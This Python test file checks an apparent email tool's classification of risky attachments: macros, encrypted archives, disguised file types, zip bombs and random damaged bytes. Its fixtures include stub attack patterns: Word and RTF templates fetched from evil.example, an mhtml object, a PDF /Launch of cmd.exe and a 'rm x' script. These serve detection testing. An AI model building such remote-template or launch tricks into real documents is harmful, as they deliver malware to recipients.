"""What to know about an attachment: what runs, deceives, hides, loads or carries; and never a crash."""

import gzip
import struct
import zipfile
from io import BytesIO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support.attachment_samples import (
    ISO,
    LNK,
    ONENOTE,
    ONENOTE_FILE,
    PE,
    PNG,
    RELATIONSHIPS,
    SEVEN_ZIP_NAMES_HIDDEN,
    SEVEN_ZIP_PASSWORD,
    SEVEN_ZIP_PLAIN,
    part,
    rar4,
    rar5,
    tarred,
    word,
    workbook,
    zipped,
)
from support.compound_writer import compound_file

from vaultviewer.core.mail.attachments import facts as attachment_facts
from vaultviewer.core.mail.attachments import zip_directory
from vaultviewer.core.mail.attachments.facts import AttachmentFacts, examine_attachment, examine_attachments
from vaultviewer.core.mail.attachments.zip_directory import LARGEST_MEMBER, read_member, read_zip_directory
from vaultviewer.core.mail.digest import digest_mail
from vaultviewer.core.mail.severity import Severity

RELS = "word___rels__settings_xml_rels"


def facts(
    content: bytes, name: str | None = "file.bin", declared: str = "application/octet-stream"
) -> AttachmentFacts:
    return examine_attachment(part(content, name, declared))


def warnings(found: AttachmentFacts) -> str:
    return " ".join(map(str, found.warnings))


def remote(kind: str, target: str) -> bytes:
    return word(**{RELS: RELATIONSHIPS.format(kind=kind, target=target)})


def flagged_zip(name: str = "a.txt") -> bytes:
    """Return a ZIP whose member says that it is encrypted."""
    data = bytearray(zipped({name: "x"}))
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


RUNS = {
    "program": (PE, "It is a program"),
    "shortcut": (LNK, "It is a shortcut"),
    "script": (b"#!/bin/sh\nrm x", "It is a script"),
    "disk image": (ISO, "It is a disk image"),
    "macro document": (word(word__vbaProject_bin=b"x"), "It has macros"),
    "macro sheet": (zipped({"xl/workbook.xml": "x", "xl/macrosheets/sheet1.xml": "x"}), "It has macros"),
    "OpenDocument macros": (
        zipped({"mimetype": "application/vnd.oasis.opendocument.text", "Basic/script-lb.xml": "x"}),
        "It has macros",
    ),
    "macros of 97": (compound_file({"WordDocument": b"x", "Macros/VBA/dir": b"x"}), "It has macros"),
    "macro sheet of 97": (workbook((0x809, b""), (0x85, bytes(5) + b"\x01")), "It has macros"),
    "remote template": (
        remote("attachedTemplate", "https://evil.example/t.dotm"),
        "https://evil.example/t.dotm",
    ),
    "remote object": (remote("oleObject", "mhtml:http://evil.example!x"), "mhtml:http://evil.example!x"),
    "ActiveX": (word(word__activeX__activeX1_bin=b"x"), "ActiveX"),
    "RTF template": (b"{\\rtf1{\\*\\template http://evil.example/t}}", "http://evil.example/t"),
    "page with a script": (b"<html><script>x</script></html>", "It has a script"),
    "page with a handler": (b"<html><body\nonload=x></html>", "It has a script"),
    "picture with a script": (b"<svg onload='x'/>", "It has a script"),
    "page for a password": (
        b"<html><form><input name=p type=password></form></html>",
        "It asks for a password",
    ),
    "PDF that starts a program": (b"%PDF-1.7\n<</S /Launch /F (cmd.exe)>>", "It can start a program"),
}
CAUTION = {
    "encrypted ZIP": (flagged_zip(), "It is encrypted"),
    "encrypted 7-Zip": (SEVEN_ZIP_PASSWORD, "It is encrypted"),
    "7-Zip with hidden names": (SEVEN_ZIP_NAMES_HIDDEN, "It is encrypted"),
    "encrypted RAR 5": (rar5("a.txt", encrypted=True), "It is encrypted"),
    "encrypted RAR 4": (rar4("a.txt", encrypted=True), "It is encrypted"),
    "RAR 4 with hidden names": (rar4("a.txt", hidden=True), "It is encrypted"),
    "encrypted Office": (
        compound_file({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}),
        "It is encrypted",
    ),
    "encrypted doc": (
        compound_file({"WordDocument": bytes(10) + struct.pack("<H", 0x0100)}),
        "It is encrypted",
    ),
    "encrypted xls": (workbook((0x809, b""), (0x2F, b"x")), "It is encrypted"),
    "encrypted PDF": (b"%PDF-1.7\ntrailer <</Encrypt 5 0 R>>", "It is encrypted"),
    "program in a ZIP": (zipped({"in/invoice.exe": "x", "b.txt": "x"}), "can run programs: in/invoice.exe"),
    "program in 7-Zip": (SEVEN_ZIP_PLAIN, "can run programs: invoice.pdf.exe"),
    "program in RAR 4": (rar4("a.js"), "can run programs: a.js"),
    "program in RAR 5": (rar5("a.vbs"), "can run programs: a.vbs"),
    "program in tar": (tarred("a.exe"), "can run programs: a.exe"),
    "program in gzip": (b"\x1f\x8b\x08\x08" + bytes(6) + b"a.exe\0" + bytes(8), "can run programs: a.exe"),
    "many programs in a ZIP": (zipped({f"{n}.exe": "x" for n in range(5)}), "2.exe and 2 more"),
    "embedded in Word": (word(word__embeddings__oleObject1_bin=b"x"), "other files embedded"),
    "embedded in a doc": (
        compound_file({"WordDocument": b"x", "ObjectPool/a/\x01Ole10Native": b"x"}),
        "other files embedded",
    ),
    "embedded in RTF": (b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}", "other files embedded"),
    "embedded in PDF": (b"%PDF-1.7\n<</EmbeddedFiles 4 0 R>>", "other files embedded"),
    "embedded in OneNote": (ONENOTE + ONENOTE_FILE, "other files embedded"),
    "PDF with a script": (b"%PDF-1.7\n<</S /JavaScript /JS (app.alert)>>", "It has a script"),
    "ZIP cut off": (zipped({"a.txt": "x"})[:30], "Its structure is broken"),
    "compound file cut off": (compound_file({"WordDocument": b"x"})[:600], "Its structure is broken"),
}
HARMLESS = {
    "text": b"hello",
    "PNG": PNG,
    "PDF": b"%PDF-1.7\n<</Type /Page /JSomething 1>>",
    "Word": word(),
    "Word with a remote link": remote("hyperlink", "https://a.example/"),
    "Word with a template of its own": remote("attachedTemplate", "Normal.dotm"),
    "workbook of 97": workbook((0x809, b""), (0x85, bytes(6))),
    "ZIP": zipped({"a.txt": "x", "exe": "x"}),
    "RAR": rar5("a.txt"),
    "RTF": b"{\\rtf1 an \\'object}",
    "page": b"<html><p title=' on sale = now'>one = two, on and on</p></html>",
    "SVG": b"<svg><path d='M0'/></svg>",
    "OneNote": ONENOTE,
    "nothing": b"",
}


@pytest.mark.parametrize("case", RUNS)
def test_what_runs_is_dangerous(case: str) -> None:
    content, sentence = RUNS[case]
    found = facts(content)
    assert sentence in warnings(found)
    assert found.severity is Severity.DANGER


@pytest.mark.parametrize("case", CAUTION)
def test_what_hides_or_carries_something_is_told(case: str) -> None:
    content, sentence = CAUTION[case]
    found = facts(content)
    assert sentence in warnings(found)
    assert found.severity is Severity.CAUTION


@pytest.mark.parametrize("case", HARMLESS)
def test_what_is_harmless_is_not_warned_of(case: str) -> None:
    found = facts(HARMLESS[case])
    assert (warnings(found), found.severity) == ("", Severity.NOTE)


@pytest.mark.parametrize(
    ("content", "name", "declared", "sentence"),
    [
        (PE, "a.pdf", "application/pdf", "named .pdf"),
        (PE, None, "application/pdf", "declared as application/pdf"),
        (b"<html></html>", "scan.png", "image/png", "named .png"),
        (b"{\\rtf1}", "a.doc", "application/msword", "named .doc"),
        (ISO, "a.zip", "application/zip", "named .zip"),
        (b"plain words", "a.pdf", "application/octet-stream", "named .pdf"),
        (bytes(range(256)), "a.docx", "application/octet-stream", "named .docx"),
        (PNG, "a", "application/pdf", "declared as application/pdf"),
        (PE, "a.exe", "image/png", "declared as image/png"),
        (b"<svg/>", "a.jpg", "image/jpeg", "named .jpg"),
    ],
)
def test_a_name_or_type_that_deceives_is_told_once(
    content: bytes, name: str | None, declared: str, sentence: str
) -> None:
    found = facts(content, name, declared)
    assert found.mismatched
    assert sentence in warnings(found)
    assert warnings(found).count("but is something else") == 1


@pytest.mark.parametrize(
    ("content", "name", "declared"),
    [
        (PNG, "a.jpg", "image/jpeg"),  # browsers and phones do so daily
        (word(), "a.doc", "application/msword"),
        (word(), "a.docx", "application/zip"),
        (b"a,b", "a.csv", "application/vnd.ms-excel"),
        (b"a,b", "a.txt", "application/json"),
        (b"<html>", "a.html", "text/plain"),
        (b"x = 1", "a.js", "text/plain"),
        (PNG, "a.png", "application/pdf"),
        (bytes(range(256)), "a.dat", "application/x-unheard-of"),
        (b"", "a.pdf", "application/pdf"),
        (b"Subject: x\r\n\r\n", "a.eml", "message/rfc822"),
        (PE, "a.scr", "application/x-msdownload"),
    ],
)
def test_names_and_types_that_are_near_enough_are_let_be(content: bytes, name: str, declared: str) -> None:
    assert not facts(content, name, declared).mismatched


def test_the_name_is_examined_too() -> None:
    found = facts(b"hello", "invoice.pdf.exe", "text/plain")
    assert "Two extensions" in warnings(found)
    assert found.severity is Severity.DANGER, "the system goes by the name"


@pytest.mark.parametrize("packed", [gzip.compress(bytes(300_000_000 // 100)), zipped({"a": bytes(1000)})])
def test_small_and_honest_ratios_are_no_bombs(packed: bytes) -> None:
    assert "times its size" not in warnings(facts(packed))


def test_a_bomb_is_known_by_what_it_claims() -> None:
    data = bytearray(zipped({"a.txt": b"x" * 100}))
    at = data.index(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 4_000_000_000)
    assert "times its size" in warnings(facts(bytes(data)))
    gzipped = gzip.compress(b"x")[:-4] + struct.pack("<I", 3_000_000_000)
    assert "times its size" in warnings(facts(gzipped))


def test_a_zip_of_64_bits_says_its_size() -> None:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive, archive.open("a.txt", "w", force_zip64=True) as member:
        member.write(b"hello")
    (entry,) = read_zip_directory(buffer.getvalue()).entries
    assert (entry.untrusted_name, entry.unpacked) == ("a.txt", 5)
    assert read_member(buffer.getvalue(), entry) == b"hello"


def test_the_directory_of_a_zip_is_read_to_a_bound(monkeypatch: pytest.MonkeyPatch) -> None:
    data = zipped({f"{number}.txt": "x" for number in range(20)})
    whole = read_zip_directory(data)
    assert (len(whole.entries), whole.whole) == (20, True)
    monkeypatch.setattr(zip_directory, "MOST_ENTRIES", 10)
    cut = read_zip_directory(data)
    assert (len(cut.entries), cut.whole) == (10, False)


def test_a_member_is_unpacked_to_a_bound() -> None:
    data = zipped({"a": bytes(LARGEST_MEMBER + 1000)})
    (entry,) = read_zip_directory(data).entries
    assert len(read_member(data, entry)) == LARGEST_MEMBER


def test_of_thousands_of_attachments_the_first_are_examined(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(attachment_facts, "MOST_EXAMINED", 2)
    found = examine_attachments([part(b"hello")] * 4)
    assert [each.severity for each in found] == [Severity.NOTE] * 2 + [Severity.CAUTION] * 2
    assert "too many" in warnings(found[3])


def test_a_digest_has_the_facts_of_each_attachment() -> None:
    raw = (
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n\r\nhi\r\n'
        b'--b\r\nContent-Disposition: attachment; filename="a.pdf"\r\n\r\n%PDF-1.7\r\n'
        b'--b\r\nContent-Disposition: attachment; filename="b.sh"\r\n\r\n#!/bin/sh\r\n--b--\r\n'
    )
    digest = digest_mail(raw)
    assert [each.true_type for each in digest.attachments] == ["application/pdf", "text/x-shellscript"]
    assert len(digest.attachments) == len(digest.body.attachments)


# ------------------------------------------------------------------------------------------ any bytes


SEEDS = [content for content, _ in (*RUNS.values(), *CAUTION.values()) if len(content) < 20_000]
SEEDS += HARMLESS.values()


@st.composite
def damaged(draw: st.DrawFn) -> bytes:
    """A real file with some of its bytes changed or cut off."""
    data = bytearray(draw(st.sampled_from(SEEDS)))
    for _ in range(draw(st.integers(0, 6))):
        place = draw(st.integers(0, max(0, len(data) - 1)))
        piece = draw(st.binary(max_size=8))
        data[place : place + len(piece)] = piece
    return bytes(data[: draw(st.integers(0, len(data)))]) if draw(st.booleans()) else bytes(data)


@settings(max_examples=300)
@given(st.one_of(st.binary(max_size=2000), damaged()), st.text(max_size=40), st.text(max_size=40))
def test_no_bytes_name_or_type_raises(content: bytes, name: str, declared: str) -> None:
    found = facts(content, name, declared)
    assert found.true_type
    assert all(str(warning) for warning in found.warnings)
    assert (found.severity is Severity.NOTE) == (not found.warnings) or found.severity is Severity.DANGER
